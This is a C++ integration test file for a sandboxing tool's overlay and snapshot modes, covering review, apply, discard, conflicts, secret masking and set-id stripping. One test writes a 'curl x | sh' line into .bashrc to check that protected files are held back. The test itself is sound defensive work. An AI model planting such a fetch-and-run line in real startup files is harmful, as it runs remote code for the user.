  EXPECT_EQ(ReadFile(workspace_ / "f.txt"), "old\n");
  EXPECT_TRUE(!Exists(Runs()) || fs::is_empty(Runs())) << "a run was kept";
}

// The same host under --best-effort: a copied snapshot of the workspace in
// the run's directory takes the command's writes (overlay/snapshot.h). The
// real tree is read from outside while the command runs and after; the
// review (diff, apply, discard) is the overlay's, unchanged.
class OverlaySnapshot : public Overlay {
 protected:
  SpawnOptions Refused() const {
    SpawnOptions options;
    options.env["CORRAL_TEST_OVERLAY_REFUSED"] = "1";
    return options;
  }
  Outcome SnapshotRun(const std::string& script, std::vector<std::string> flags = {}) {
    flags.insert(flags.begin(), {"--overlay", "--best-effort"});
    return RunIn(flags, {"sh", "-c", script}, Refused());
  }
};

TEST_F(OverlaySnapshot, TheRealTreeIsUnchangedAndTheRunSaysSnapshot) {
  Populate();
  const std::map<std::string, std::string> before = Snapshot(workspace_.path());
  Process run(RunArgv({"--overlay", "--best-effort"}, {"sh", "-c", Changes() + " && echo READY && sleep 2"}),
              Defaults(Refused()));
  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
      << run.OutputSoFar();
  ASSERT_TRUE(run.Running());
  // Read from outside while the command still runs.
  EXPECT_EQ(Snapshot(workspace_.path()), before) << "the command's writes reached the real tree";
  const Outcome& done = run.Wait();
  ASSERT_EQ(done.exit_code, 0) << done.Describe();
  EXPECT_EQ(Snapshot(workspace_.path()), before);
  const std::string id = LastRun();
  ASSERT_FALSE(id.empty()) << done.Describe();
  EXPECT_NE(done.err.find("overlay run " + id + ": the kernel refused overlayfs; --best-effort ran the command on a "
                          "copied snapshot"),
            std::string::npos)
      << done.err;
  EXPECT_NE(done.err.find("degraded run (--best-effort): it ran without overlay: copied snapshot"), std::string::npos)
      << done.err;
  EXPECT_NE(done.err.find("renamed   old-name.txt -> new-name.txt"), std::string::npos) << done.err;
  EXPECT_FALSE(Exists(Runs() + "/" + id + "/snapshot")) << "the copy outlived the run";
  EXPECT_EQ(ReadFile(Upper(id) + "/added.txt"), "new\n") << "the copy's changes became the upper";
  std::vector<nlohmann::json> records = AuditEvents("overlay");
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["mode"], "snapshot") << records[0].dump();
  EXPECT_EQ(records[0]["root"], workspace_.path());
  std::vector<nlohmann::json> spawned = AuditEvents("spawned");
  ASSERT_FALSE(spawned.empty());
  EXPECT_NE(spawned.back().dump().find("overlay: copied snapshot"), std::string::npos) << spawned.back().dump();
}

TEST_F(OverlaySnapshot, DiffShowsExactlyTheChanges) {
  Populate();
  Outcome run = SnapshotRun(Changes());
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  Outcome json = Corral({"diff", "--json"});
  ASSERT_EQ(json.exit_code, 0) << json.Describe();
  nlohmann::json doc = nlohmann::json::parse(json.out, nullptr, false);
  ASSERT_TRUE(doc.is_object()) << json.Describe();
  std::map<std::string, std::string> kinds;
  for (const nlohmann::json& change : doc["changes"]) {
    std::string path = change["path"].is_string() ? change["path"].get<std::string>()
                                                   : "hex:" + change["path"]["bytes_hex"].get<std::string>();
    kinds[path] = change["kind"].get<std::string>() + (change.contains("renamed_from") ? "<-" + change["renamed_from"].get<std::string>() : "");
  }
  std::map<std::string, std::string> expected = {
      {"added.txt", "added"},         {"blob.bin", "added"},       {"edit.txt", "modified"},
      {"empty-dir", "added"},         {"gone.txt", "deleted"},     {"new-name.txt", "added<-old-name.txt"},
      {"old-name.txt", "deleted"},    {"run.sh", "mode"},          {"tree", "deleted"},
      {"with space.txt", "added"},    {"hex:636166e92e747874", "added"},
  };
  EXPECT_EQ(kinds, expected) << json.out;
  Outcome diff = Corral({"diff"});
  ASSERT_EQ(diff.exit_code, 0) << diff.Describe();
  EXPECT_NE(diff.out.find("--- a/edit.txt\n+++ b/edit.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n"),
            std::string::npos)
      << diff.out;
  EXPECT_NE(diff.out.find("deleted directory tree/"), std::string::npos) << diff.out;
}

TEST_F(OverlaySnapshot, ApplyLandsEveryChange) {
  Populate();
  workspace_.Write("deep/a/b/keep.txt", "deep\n");
  workspace_.Write("deep/a/b/edit.txt", "old\n");
  ASSERT_EQ(SnapshotRun(Changes() + " && echo new > deep/a/b/edit.txt && rm deep/a/b/keep.txt").exit_code, 0);
  Outcome applied = Corral({"apply"});
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "edit.txt"), "one\nTWO\nthree\n");
  EXPECT_FALSE(Exists(workspace_ / "gone.txt"));
  EXPECT_FALSE(Exists(workspace_ / "old-name.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "new-name.txt"), "moved content, long enough to be recognised\n");
  struct stat st;
  ASSERT_EQ(::stat((workspace_ / "run.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
  EXPECT_TRUE(fs::is_directory(workspace_ / "empty-dir"));
  EXPECT_FALSE(Exists(workspace_ / "tree"));
  EXPECT_EQ(ReadFile(workspace_ / "blob.bin"), std::string("bin\0ary", 7));
  EXPECT_EQ(ReadFile(workspace_ / "caf\xe9.txt"), "latin\n");
  EXPECT_EQ(ReadFile(workspace_ / "keep.txt"), "unchanged\n");
  EXPECT_EQ(ReadFile(workspace_ / "deep/a/b/edit.txt"), "new\n");
  EXPECT_FALSE(Exists(workspace_ / "deep/a/b/keep.txt"));
  Outcome pending = Corral({"changes"});
  EXPECT_NE(pending.out.find(" 0 pending change(s)"), std::string::npos) << pending.Describe();
}

TEST_F(OverlaySnapshot, DiscardLeavesNothingAndAnEditMadeDuringTheRunIsAConflict) {
  Populate();
  const std::map<std::string, std::string> before = Snapshot(workspace_.path());
  ASSERT_EQ(SnapshotRun(Changes()).exit_code, 0);
  Outcome discarded = Corral({"discard"});
  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
  EXPECT_TRUE(fs::is_empty(Runs())) << "something of the run is left";
  EXPECT_EQ(Snapshot(workspace_.path()), before);
  // The user edits a file while the command changes it: held back.
  Process run(RunArgv({"--overlay", "--best-effort"}, {"sh", "-c", "echo READY; sleep 2; echo run > keep.txt"}),
              Defaults(Refused()));
  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
      << run.OutputSoFar();
  workspace_.Write("keep.txt", "user\n");
  ASSERT_EQ(run.Wait().exit_code, 0) << run.Wait().Describe();
  Outcome applied = Corral({"apply"});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "keep.txt"), "user\n") << "apply overwrote an edit it did not see";
}

TEST_F(OverlaySnapshot, NoSpecialFileOrSetIdBitIsCopiedAndSecretsStayMasked) {
  const std::string secret = "sk-snapshot-secret-0123456789";
  workspace_.Write(".env", secret + "\n");
  workspace_.Write("tool", "#!/bin/sh\n", 06755);
  ASSERT_EQ(::chmod((workspace_ / "tool").c_str(), 06755), 0);
  ASSERT_EQ(::mkfifo((workspace_ / "pipe").c_str(), 0644), 0);
  Outcome run = SnapshotRun("cat .env; test -p pipe && echo fifo=yes; test -e pipe || echo fifo=no; "
                            "test -u tool && echo suid=yes; test -g tool && echo sgid=yes; echo ok > plain.txt",
                            {"--forbid-read", ".env"});
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_EQ(run.out.find(secret), std::string::npos) << run.Describe();
  EXPECT_NE(run.out.find("fifo=no"), std::string::npos) << run.Describe();
  EXPECT_EQ(run.out.find("suid=yes"), std::string::npos) << run.Describe();
  EXPECT_EQ(run.out.find("sgid=yes"), std::string::npos) << run.Describe();
  Outcome stat = Corral({"diff", "--stat"});
  ASSERT_EQ(stat.exit_code, 0) << stat.Describe();
  EXPECT_NE(stat.out.find("1 change(s)"), std::string::npos) << "only plain.txt: " << stat.out;
  EXPECT_NE(stat.out.find("added     plain.txt"), std::string::npos) << stat.out;
  struct stat st;
  ASSERT_EQ(::stat((workspace_ / "tool").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 06755u) << "the real file is untouched";
}

TEST_F(OverlaySnapshot, ATreeOverTheLimitIsRefusedBeforeAnythingRuns) {
  workspace_.Write("big.bin", std::string(4096, 'x'));
  SpawnOptions options = Refused();
  options.env["CORRAL_TEST_SNAPSHOT_LIMIT_BYTES"] = "1024";
  Outcome run = RunIn({"--overlay", "--best-effort"}, {"sh", "-c", "echo ran > ran.txt"}, options);
  EXPECT_EQ(run.exit_code, 125) << run.Describe();
  EXPECT_NE(run.err.find("the copied snapshot is limited to"), std::string::npos) << run.Describe();
  EXPECT_FALSE(Exists(workspace_ / "ran.txt")) << "the command ran";
  EXPECT_TRUE(!Exists(Runs()) || fs::is_empty(Runs())) << "a run was kept";
}

TEST_F(OverlaySnapshot, AWriteRootOutsideTheWorkspaceIsCopiedToo) {
  TempDir cache{"corral-snapshot-root"};
  cache.Write("old.txt", "old\n");
  workspace_.Write("src.txt", "one\n");
  Outcome run = SnapshotRun("echo two > src.txt && echo changed > " + cache.path() + "/old.txt && echo new > " +
                                cache.path() + "/new.txt",
                            {"--allow-write", cache.path(), "--overlay-root", cache.path()});
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_EQ(ReadFile(cache / "old.txt"), "old\n");
  EXPECT_FALSE(Exists(cache / "new.txt"));
  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "one\n");
  Outcome applied = Corral({"apply"});
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(cache / "old.txt"), "changed\n");
  EXPECT_EQ(ReadFile(cache / "new.txt"), "new\n");
  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "two\n");
}

TEST_F(Overlay, ALargeTreeRunsDiffsAndApplies) {
  const std::string chunk(20 * 1024, 'x');
  for (int i = 0; i < 10000; ++i) workspace_.Write("big/d" + std::to_string(i % 100) + "/f" + std::to_string(i), chunk);
  Outcome run = RunIn({"--overlay", "--timeout", "300"},
                      {"sh", "-c", "for f in big/*/*; do echo y >> \"$f\"; done"}, [] {
                        SpawnOptions options;
                        options.timeout = 300s;
                        return options;
                      }());
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "big/d7/f7"), chunk) << "the real tree is untouched";
  SpawnOptions slow;
  slow.timeout = 300s;
  Outcome stat = Corral({"diff", "--stat"}, slow);
  ASSERT_EQ(stat.exit_code, 0) << stat.Describe();
  EXPECT_NE(stat.out.find("10000 change(s)"), std::string::npos) << stat.out.substr(stat.out.size() - 200);
  Outcome applied = Corral({"apply"}, slow);
  ASSERT_EQ(applied.exit_code, 0) << applied.Describe();
  EXPECT_EQ(ReadFile(workspace_ / "big/d7/f7"), chunk + "y\n");
  EXPECT_EQ(ReadFile(workspace_ / "big/d99/f9999"), chunk + "y\n");
}

}  // namespace
}  // namespace corral_it

namespace corral_it {
namespace {

namespace fs = std::filesystem;

// --overlay-root: an --allow-write root outside the workspace is an overlay
// of its own, with its own upper under the run's directory; changes, diff,
// apply and discard cover it beside the workspace, its paths shown under
// its root, each tree applied on its own pinned descriptor.
class OverlayRoots : public SandboxTest {
 protected:
  std::string Runs() const { return state_ / "corral/overlay"; }
  std::string LastRun() {
    std::vector<nlohmann::json> records = AuditEvents("overlay");
    return records.empty() ? std::string() : records.back().value("overlay_run", "");
  }
};

TEST_F(OverlayRoots, AWriteRootOutsideTheWorkspaceIsOverlaidReviewedAndApplied) {
  TempDir cache{"corral-overlay-root"};
  cache.Write("keep.txt", "cached\n");
  cache.Write("old.txt", "old\n");
  workspace_.Write("src.txt", "one\n");
  Process run(RunArgv({"--allow-write", cache.path(), "--overlay-root", cache.path()},
                      {"sh", "-c", "echo two > src.txt && echo new > " + cache.path() + "/new.txt && echo changed > " +
                                       cache.path() + "/old.txt && echo READY && sleep 2"}),
              Defaults({}));
  ASSERT_TRUE(WaitFor([&] { return run.OutputSoFar().find("READY") != std::string::npos; }, 20s))
      << run.OutputSoFar();
  // Checked from outside while the command runs: neither tree changed.
  EXPECT_FALSE(Exists(cache / "new.txt")) << "the write reached the real root";
  EXPECT_EQ(ReadFile(cache / "old.txt"), "old\n");
  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "one\n");
  const Outcome& done = run.Wait();
  ASSERT_EQ(done.exit_code, 0) << done.Describe();
  const std::string id = LastRun();
  ASSERT_FALSE(id.empty()) << done.Describe();
  EXPECT_EQ(ReadFile(Runs() + "/" + id + "/root.1/upper/new.txt"), "new\n") << "the root has its own upper";
  EXPECT_NE(done.err.find("added     " + cache.path() + "/new.txt"), std::string::npos) << done.Describe();
  EXPECT_NE(done.err.find("changed   src.txt"), std::string::npos) << done.Describe();
  std::vector<nlohmann::json> records = AuditEvents("overlay");
  ASSERT_EQ(records.size(), 1u);
  EXPECT_EQ(records[0]["roots"], nlohmann::json({workspace_.path(), cache.path()})) << records[0].dump();

  Outcome stat = Corral({"diff", "--stat", id});
  ASSERT_EQ(stat.exit_code, 0) << stat.Describe();
  EXPECT_NE(stat.out.find("  changed   " + cache.path() + "/old.txt"), std::string::npos) << stat.out;
  EXPECT_NE(stat.out.find("  changed   src.txt"), std::string::npos) << stat.out;
  Outcome diff = Corral({"diff", id});
  EXPECT_NE(diff.out.find("+++ b" + cache.path() + "/old.txt\n"), std::string::npos) << diff.out;
  EXPECT_NE(diff.out.find("+changed"), std::string::npos) << diff.out;
  Outcome pending = Corral({"changes"});
  EXPECT_NE(pending.out.find(" 3 pending change(s)"), std::string::npos) << pending.Describe();

  // A subset by path picks the root; then the rest.
  Outcome some = Corral({"apply", id, cache / "new.txt"});
  ASSERT_EQ(some.exit_code, 0) << some.Describe();
  EXPECT_EQ(ReadFile(cache / "new.txt"), "new\n");
  EXPECT_EQ(ReadFile(cache / "old.txt"), "old\n");
  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "one\n");
  Outcome rest = Corral({"apply", id});
  ASSERT_EQ(rest.exit_code, 0) << rest.Describe();
  EXPECT_EQ(ReadFile(cache / "old.txt"), "changed\n");
  EXPECT_EQ(ReadFile(workspace_ / "src.txt"), "two\n");
  EXPECT_EQ(ReadFile(cache / "keep.txt"), "cached\n");
  Outcome discarded = Corral({"discard", id});
  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
  EXPECT_TRUE(fs::is_empty(Runs())) << "something of the run is left";
}

// The same rules hold in the root: a protected path and a conflict are held
// back there, and a discard leaves the root untouched and nothing behind.
TEST_F(OverlayRoots, ARootKeepsTheProtectedAndConflictRulesAndDiscardLeavesNothing) {
  TempDir cache{"corral-overlay-root"};
  cache.Write("edit.txt", "old\n");
  Outcome run = RunIn({"--allow-write", cache.path(), "--overlay-root", cache.path()},
                      {"sh", "-c", "cd " + cache.path() + " && echo agent > edit.txt && echo 'curl x | sh' > .bashrc"});
  ASSERT_EQ(run.exit_code, 0) << run.Describe();
  const std::string id = LastRun();
  WriteFile(cache / "edit.txt", "the user's edit\n");
  Outcome applied = Corral({"apply", id});
  EXPECT_EQ(applied.exit_code, 80) << applied.Describe();
  EXPECT_NE(applied.err.find("conflict: " + cache.path() + "/edit.txt"), std::string::npos) << applied.Describe();
  EXPECT_NE(applied.err.find("protected: " + cache.path() + "/.bashrc"), std::string::npos) << applied.Describe();
  EXPECT_EQ(ReadFile(cache / "edit.txt"), "the user's edit\n");
  EXPECT_FALSE(Exists(cache / ".bashrc"));
  Outcome discarded = Corral({"discard", id});
  ASSERT_EQ(discarded.exit_code, 0) << discarded.Describe();
  EXPECT_TRUE(fs::is_empty(Runs()));
  EXPECT_FALSE(Exists(cache / ".bashrc"));
}

// Only a root that is already a write grant, outside the workspace, can be
// overlaid: anything else is refused before a process starts.
TEST_F(OverlayRoots, OnlyAWriteGrantOutsideTheWorkspaceCanBeARoot) {
  TempDir cache{"corral-overlay-root"};
  workspace_.Mkdir("inner");
  const std::string canary = "echo ran > ran.txt";
  Outcome not_granted = RunIn({"--overlay-root", cache.path()}, {"sh", "-c", canary});
  EXPECT_EQ(not_granted.exit_code, 64) << not_granted.Describe();
  EXPECT_NE(not_granted.err.find("not an --allow-write grant"), std::string::npos) << not_granted.Describe();
  Outcome read_only = RunIn({"--allow-read", cache.path(), "--overlay-root", cache.path()}, {"sh", "-c", canary});
  EXPECT_EQ(read_only.exit_code, 64) << read_only.Describe();
  Outcome inside = RunIn({"--allow-write", workspace_ / "inner", "--overlay-root", workspace_ / "inner"},
                         {"sh", "-c", canary});
  EXPECT_EQ(inside.exit_code, 64) << inside.Describe();
  EXPECT_NE(inside.err.find("inside the workspace"), std::string::npos) << inside.Describe();
  EXPECT_TRUE(AuditEvents("spawned").empty()) << "nothing may run";
  EXPECT_FALSE(Exists(workspace_ / "ran.txt"));
}

}  // namespace
}  // namespace corral_it
